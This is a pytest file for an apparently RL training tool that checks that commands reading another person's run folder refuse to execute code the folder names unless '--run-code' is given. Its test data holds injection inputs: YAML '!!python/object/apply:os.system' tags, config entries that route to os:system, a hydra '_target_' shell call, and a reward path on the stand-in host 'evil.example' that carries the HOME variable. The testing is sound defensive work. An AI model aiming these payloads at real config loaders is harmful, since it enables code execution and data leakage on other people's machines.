"""Commands that read a run folder run no code that it names without --run-code."""

import shutil
from pathlib import Path

import pytest
import yaml

from rlfuse.cli import main as rlfuse
from rlfuse.rewards.api.items import item_of_sample
from rlfuse.tools.evaluation import replay
from rlfuse.tools.evaluation.arguments import read
from rlfuse.tools.evaluation.reward_table import score_items
from rlfuse.tools.run_code import reward_code

RUN = Path(__file__).parents[2] / "notebooks" / "data" / "run"
EVIL = """
import pathlib
pathlib.Path(__file__).with_name("executed").touch()

def score(solution_str, ground_truth):
    return 1.0

def policy(snapshot):
    return []
"""
FACTORY = {"path": "rlfuse.config.custom_modules:load_module", "kwargs": {"path": "evil.py"}}
SHELL = {"path": "os:system", "kwargs": {"command": "touch executed"}}
WRITER = {"path": "rlfuse.tasks.prepare:write_atomically", "kwargs": {"path": "executed", "text": ""}}
JUDGE = {"path": "judge", "kwargs": {"model": "m", "engine_kwargs": {"trust_remote_code": True}}}


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """Return the run folder of another person, whose evil.py creates a file when it is executed."""

    async def score_locally(samples, reward, prompt_key, trusts):
        items = [item_of_sample(sample, prompt_key) for sample in samples]
        return score_items(list(reward.functions), items, list(reward.weights), reward.model_path)

    monkeypatch.setattr(replay, "scored", score_locally)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "evil.py").write_text(EVIL)
    return Path(shutil.copytree(RUN, tmp_path / "run"))


def change(folder, changes):
    file = folder / "config.yaml"
    config = yaml.safe_load(file.read_text())
    for key, value in changes.items():
        group, _, name = key.partition(".")
        config[group][name] = value
    file.write_text(yaml.safe_dump(config))


TRUSTED = {"model.trust_remote_code": True}
REPLAY = ["reward", "replay"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("command", "changes", "named"),
    [
        (REPLAY, {"reward.functions": ["evil.py:score"]}, "reward.functions=[evil.py:score]"),
        (REPLAY, {"reward.functions": [{"path": "evil.py:score", "weight": 2}]}, "reward.functions=[evil.py:score]"),
        (REPLAY, {"reward.functions": [FACTORY]}, "reward.functions=[rlfuse.config.custom_modules:load_module]"),
        (REPLAY, {"reward.functions": [SHELL]}, "reward.functions=[os:system]"),
        (REPLAY, {"reward.functions": [WRITER]}, "reward.functions=[rlfuse.tasks.prepare:write_atomically]"),
        (REPLAY, {"reward.functions": ["http://evil.example/${oc.env:HOME}"]}, "reward.functions=[http://evil.example"),
        (REPLAY, {"reward.functions": [JUDGE]}, "reward.functions=[judge]"),
        (REPLAY, {"reward.model_path": "m", **TRUSTED}, "model.trust_remote_code=true for reward.model_path=m"),
        (REPLAY, {"reward.engine_kwargs": {"worker_cls": "evil.W"}}, "reward.engine_kwargs={'worker_cls': 'evil.W'}"),
        (["whatif"], {"fusion.policy": "evil.py:policy"}, "fusion.policy=evil.py:policy"),
        (["calibrate"], TRUSTED, "model.trust_remote_code=true for model.path="),
        (["eval"], {"reward.functions": ["evil.py:score"]}, "reward.functions=[evil.py:score]"),
        (["eval"], TRUSTED, "model.trust_remote_code=true"),
        (["generate", "--out", "x.jsonl"], TRUSTED, "model.trust_remote_code=true"),
        (["generate", "--out", "x.jsonl"], {"model.video_family": "evil.py:F"}, "model.video_family=evil.py:F"),
        (
            ["eval"],
            {"rollout.engine_kwargs": {"worker_cls": "evil.W"}},
            "rollout.engine_kwargs={'worker_cls': 'evil.W'}",
        ),
    ],
)
def test_a_command_reports_the_code_and_does_not_run_it(folder, capsys, command, changes, named):
    change(folder, changes)
    status = rlfuse([*command, str(folder)])
    output = "".join(capsys.readouterr())
    assert status == 2 and named in output and "--run-code" in output
    assert not (folder.parent / "executed").exists()


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system [touch executed]",
        "trainer: !!python/name:os.system",
        "trainer: {nnodes: 1}\nrollout: {n: 1}\nfusion: !!python/module:evil",
        "hydra: {launcher: {_target_: os.system, command: touch executed}}",
        "[1, 2]",
        "a: &a [*a]",
        "a: " + "[" * 20_000,
        "\0",
        "trainer: 3",
        "",
    ],
    ids=lambda text: text[:30],
)
@pytest.mark.parametrize("command", [REPLAY, ["whatif"], ["report"], ["calibrate"], ["eval"], ["trace"]])
def test_a_folder_without_valid_configuration_is_rejected(folder, capsys, command, text):
    (folder / "config.yaml").write_text(text)
    assert rlfuse([*command, str(folder)]) == 2
    assert "Traceback" not in capsys.readouterr().err and not (folder.parent / "executed").exists()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("command", "changes"),
    [
        ([*REPLAY, "--run-code"], {"reward.functions": ["evil.py:score"]}),
        (["whatif", "--run-code"], {"fusion.policy": "evil.py:policy"}),
    ],
)
def test_the_code_runs_with_run_code(folder, command, changes):
    change(folder, changes)
    rlfuse([*command, str(folder)])
    assert (folder.parent / "executed").exists()


@pytest.mark.slow
def test_code_of_the_command_line_and_of_rlfuse_needs_no_permission(folder):
    change(folder, {"reward.functions": ["evil.py:score"], **TRUSTED})
    (folder.parent / "mine.py").write_text("def length(solution_str):\n    return len(solution_str)\n")
    assert rlfuse([*REPLAY, str(folder), "reward.functions=[mine.py:length]"]) == 0
    assert not (folder.parent / "executed").exists()
    with pytest.raises(Exception, match="--run-code"):
        read([str(folder)], scored=False)
    shipped = ["rlfuse.tasks.remainder:compute_score", "rlfuse.rewards.verifiers.math:math_answer", "judge"]
    assert reward_code({"reward": {"functions": shipped[:1] + shipped[2:], "model_path": "m"}}) == []
    assert len(reward_code({"reward": {"functions": ["rlfuse.tasks.remainder:Path", "rlfuse.tasks.x:y", 3, {}]}})) == 4
